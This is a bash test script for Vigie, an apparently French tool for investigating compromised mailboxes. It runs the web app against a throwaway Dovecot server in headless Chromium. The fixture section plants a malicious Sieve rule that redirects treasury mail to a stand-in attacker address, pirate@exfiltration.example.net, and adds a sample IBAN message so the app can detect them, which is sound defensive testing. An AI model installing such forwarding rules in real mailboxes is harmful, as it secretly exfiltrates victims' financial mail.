#!/usr/bin/env bash
# Vigie — the web application in a real browser (headless Chromium from Debian, driven by
# playwright-core), from the installation link to a mailbox's findings and the incident's
# documents.
#
#   bash scripts/browser-test.sh
#
# Installs what it needs when it is missing (Debian packages chromium, nodejs, npm, oathtool,
# poppler-utils, and Dovecot through tests/fixtures/dovecot.sh install; `npm ci` in
# tests/browser), builds `vigie` (or takes $VIGIE_BIN), starts a throwaway Dovecot whose mailbox
# forwards mail outside and holds a bank detail, starts `vigie serve` on a free loopback port
# with a fresh data directory, runs tests/browser/flow.mjs against both, and stops both servers
# whatever happens.
#
# Environment:
#   VIGIE_BIN          the vigie binary to test (default: cargo build -p vigie, target/debug/vigie)
#   BROWSER_ARTIFACTS  where the screenshots and downloaded documents go
#                      (default: target/browser-artifacts, emptied first)
#   CHROMIUM_PATH      the browser (default: /usr/bin/chromium)
set -euo pipefail
cd "$(dirname "$0")/.."
root=$(pwd)

fail() { printf 'browser-test : %s\n' "$*" >&2; exit 1; }

# --- What the test needs ------------------------------------------------------------------
missing=()
command -v chromium >/dev/null || [ -x "${CHROMIUM_PATH:-/usr/bin/chromium}" ] || missing+=(chromium)
command -v node >/dev/null || missing+=(nodejs)
command -v npm >/dev/null || missing+=(npm)
command -v oathtool >/dev/null || missing+=(oathtool)
command -v pdftotext >/dev/null || missing+=(poppler-utils)
command -v flock >/dev/null || missing+=(util-linux)
if [ ${#missing[@]} -gt 0 ]; then
  echo "Installation des paquets manquants : ${missing[*]}"
  sudo=(); [ "$(id -u)" -ne 0 ] && sudo=(sudo)
  "${sudo[@]}" apt-get update -q
  "${sudo[@]}" env DEBIAN_FRONTEND=noninteractive apt-get install -y -q --no-install-recommends "${missing[@]}"
fi
# Dovecot and Pigeonhole for the mailbox (installs only what is missing, like scripts/test.sh).
bash "$root/tests/fixtures/dovecot.sh" install
node_major=$(node -p 'process.versions.node.split(".")[0]')
[ "$node_major" -ge 20 ] || fail "Node.js $(node --version) est trop ancien : playwright-core demande Node.js 20 ou plus récent."

# node_modules is reinstalled when missing or older than the lock file (npm ci starts from
# scratch, so it is also what makes a stale tree right).
browser_dir="$root/tests/browser"
if [ ! -d "$browser_dir/node_modules/playwright-core" ] \
  || [ "$browser_dir/package-lock.json" -nt "$browser_dir/node_modules/.package-lock.json" ]; then
  echo "npm ci dans tests/browser"
  (cd "$browser_dir" && npm ci --no-audit --no-fund --loglevel=error)
fi

# --- The binary ---------------------------------------------------------------------------
if [ -n "${VIGIE_BIN:-}" ]; then
  bin=$VIGIE_BIN
else
  cargo build --quiet --locked -p vigie
  bin="$root/target/debug/vigie"
fi
[ -x "$bin" ] || fail "binaire introuvable : $bin"

artifacts=${BROWSER_ARTIFACTS:-$root/target/browser-artifacts}
case $artifacts in /*) ;; *) artifacts="$root/$artifacts" ;; esac
rm -rf "$artifacts"
mkdir -p "$artifacts"

# --- The servers ----------------------------------------------------------------------------
work=$(mktemp -d)
# Dovecot's unix sockets live in its directory, whose path must stay short (60 bytes at most).
dovecot_dir=$(mktemp -d /tmp/vigie-bt-XXXXXX)
serve_pid=""
dovecot_started=""
stop_server() {
  if [ -n "$serve_pid" ] && kill -0 "$serve_pid" 2>/dev/null; then
    kill -INT "$serve_pid" 2>/dev/null || true
    # Graceful shutdown first; a server that does not stop within 10 s is killed.
    for _ in $(seq 1 50); do kill -0 "$serve_pid" 2>/dev/null || break; sleep 0.2; done
    kill -KILL "$serve_pid" 2>/dev/null || true
    wait "$serve_pid" 2>/dev/null || true
  fi
  serve_pid=""
}
stop_dovecot() {
  if [ -n "$dovecot_started" ]; then
    bash "$root/tests/fixtures/dovecot.sh" stop "$dovecot_dir" || true
  fi
  dovecot_started=""
}
cleanup() {
  stop_server
  [ -f "$work/serve.log" ] && cp "$work/serve.log" "$artifacts/serve.log" 2>/dev/null
  # dovecot.sh start may have died half-way: stop whatever it left running in its directory.
  [ -f "$dovecot_dir/dovecot.conf" ] && dovecot_started=1
  stop_dovecot
  [ -f "$dovecot_dir/log/dovecot.log" ] && cp "$dovecot_dir/log/dovecot.log" "$artifacts/dovecot.log" 2>/dev/null
  rm -rf "$work" "$dovecot_dir"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# Dovecot's three ports (base+143, base+190, base+993) come from the port slots of
# vigie-testkit (bases 10000, 11000… 31000), taken with the same lock files, so this test and
# a `cargo test` running at the same time never pick the same ports. The lock is held on a
# descriptor that the servers do not inherit (closed for them below) until this script ends.
lock_dir="${TMPDIR:-/tmp}/vigie-testkit-ports"
mkdir -p "$lock_dir"
chmod 1777 "$lock_dir" 2>/dev/null || true
port_free() { ! (exec 3<>"/dev/tcp/127.0.0.1/$1") 2>/dev/null; }
port_base=""
for slot in $(shuf -i 0-21); do
  base_try=$((10000 + slot * 1000))
  exec {port_lock}>>"$lock_dir/$base_try.lock"
  if flock -n "$port_lock" && port_free $((base_try + 143)) && port_free $((base_try + 190)) \
    && port_free $((base_try + 993)); then
    port_base=$base_try
    break
  fi
  exec {port_lock}>&-
done
[ -n "$port_base" ] || fail "aucun emplacement de ports libre pour Dovecot (10000 à 31000)."

dovecot_started=1
dovecot_out=$(bash "$root/tests/fixtures/dovecot.sh" start "$dovecot_dir" "$port_base" {port_lock}>&-) \
  || fail "Dovecot n'a pas démarré (tests/fixtures/dovecot.sh start $dovecot_dir $port_base)."
dovecot_field() { sed -n "s/^$1=//p" <<<"$dovecot_out"; }
imaps_port=$(dovecot_field imaps)
sieve_port=$(dovecot_field sieve)
ca_cert=$(dovecot_field ca_cert)
# The fixture's first user and its password, from the passwd file it wrote
# (user:{PLAIN}password::::home::).
IFS=: read -r mail_user mail_password _ < <(head -n 1 "$dovecot_dir/passwd")
mail_password=${mail_password#\{PLAIN\}}
mail_home="$dovecot_dir/home/$mail_user"
mail_owner=$(cat "$dovecot_dir/mail_owner")
[ -n "$imaps_port" ] && [ -n "$sieve_port" ] && [ -f "$ca_cert" ] && [ -d "$mail_home/Maildir" ] \
  || fail "sortie inattendue de dovecot.sh start : $dovecot_out"

# What an attacker leaves behind, written the way vigie-testkit's put_sieve_script and append do
# (crates/vigie-testkit/src/lib.rs): the active Sieve script is ~/sieve/NAME.sieve with the
# symlink ~/.dovecot.sieve -> sieve/NAME.sieve; a message goes to Maildir/tmp then is renamed
# into Maildir/cur, owned by the fixture's mail user.
exfiltration="pirate@exfiltration.example.net"
printf 'require ["fileinto"];\r\nif header :contains "from" "tresorerie" {\r\n  redirect "%s";\r\n}\r\n' \
  "$exfiltration" >"$mail_home/sieve/regles.sieve"
ln -sfn sieve/regles.sieve "$mail_home/.dovecot.sieve"
chown -h "$mail_owner" "$mail_home/sieve/regles.sieve" "$mail_home/.dovecot.sieve"
message="$(date +%s).M$(date +%6N)P$$Q1.vigie-browser-test"
printf '%s\r\n' \
  "From: tresorerie@dgfip.example.fr" \
  "To: $mail_user" \
  "Subject: Coordonnees bancaires" \
  "Date: Mon, 2 Mar 2026 09:00:00 +0100" \
  "Message-ID: <rib-1@dgfip.example.fr>" \
  "" \
  "Voici le RIB : IBAN FR76 3000 6000 0112 3456 7890 189" >"$mail_home/Maildir/tmp/$message"
chown "$mail_owner" "$mail_home/Maildir/tmp/$message"
mv "$mail_home/Maildir/tmp/$message" "$mail_home/Maildir/cur/$message:2,"
echo "Dovecot : IMAPS 127.0.0.1:$imaps_port, ManageSieve $sieve_port (dossier : $dovecot_dir)"

# A fresh server of its own: nothing from the caller's environment may point it at a real
# database, blob store or key.
unset VIGIE_DB VIGIE_BLOBS VIGIE_CONFIG VIGIE_PUBLIC_URL VIGIE_SECRET_KEY VIGIE_LISTEN VIGIE_DATA_DIR
serve_log="$work/serve.log"
: >"$serve_log"  # exists before the background server opens it
"$bin" serve --listen 127.0.0.1:0 --data-dir "$work/data" >"$serve_log" 2>&1 {port_lock}>&- &
serve_pid=$!
base=""
setup_url=""
for _ in $(seq 1 150); do
  base=$(sed -n 's/^Vigie est démarré : \(http:[^ ]*\)$/\1/p' "$serve_log")
  setup_url=$(grep -o 'http://[^ ]*/installation?jeton=[^ ]*' "$serve_log" || true)
  [ -n "$base" ] && [ -n "$setup_url" ] && break
  kill -0 "$serve_pid" 2>/dev/null || break
  sleep 0.2
done
if [ -z "$base" ] || [ -z "$setup_url" ]; then
  cat "$serve_log" >&2
  fail "vigie serve n'a pas affiché son adresse et le lien d'installation dans les 30 secondes."
fi
# The browser goes to http://localhost:PORT rather than the printed 127.0.0.1: WebAuthn (the
# passkey steps) refuses an IP address as relying party, and localhost is the same loopback.
base=${base/127.0.0.1/localhost}
setup_url=${setup_url/127.0.0.1/localhost}
echo "vigie serve : $base (données : $work/data)"

# --- The browser --------------------------------------------------------------------------
started=$(date +%s)
status=0
VIGIE_TEST_IMAP_HOST=127.0.0.1 \
  VIGIE_TEST_IMAPS_PORT=$imaps_port \
  VIGIE_TEST_SIEVE_PORT=$sieve_port \
  VIGIE_TEST_IMAP_USER=$mail_user \
  VIGIE_TEST_IMAP_PASSWORD=$mail_password \
  VIGIE_TEST_CA_PEM=$ca_cert \
  VIGIE_TEST_EXFILTRATION=$exfiltration \
  node "$browser_dir/flow.mjs" "$base" "$setup_url" "$artifacts" {port_lock}>&- || status=$?
stop_server
stop_dovecot
elapsed=$(( $(date +%s) - started ))
echo "Captures d'écran et documents téléchargés : $artifacts"
if [ "$status" -ne 0 ]; then
  echo "Journaux des serveurs : $artifacts/serve.log, $artifacts/dovecot.log" >&2
  fail "le parcours dans le navigateur a échoué (voir le message ci-dessus)."
fi
echo "Parcours dans le navigateur : réussi en ${elapsed} s."
